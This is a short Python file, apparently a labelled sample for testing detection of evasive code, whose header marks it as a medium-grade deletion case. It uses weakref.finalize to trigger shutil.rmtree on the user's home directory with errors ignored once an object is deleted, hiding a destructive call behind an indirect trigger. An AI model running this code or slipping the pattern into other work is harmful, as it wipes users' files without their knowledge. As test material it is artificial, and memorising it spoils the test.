# evasion: weakref.finalize runs rmtree of the home directory at exit
# grade: medium; does: delete
import pathlib
import shutil
import weakref


class Session:
    pass


s = Session()
weakref.finalize(s, shutil.rmtree, pathlib.Path.home(), True)
del s
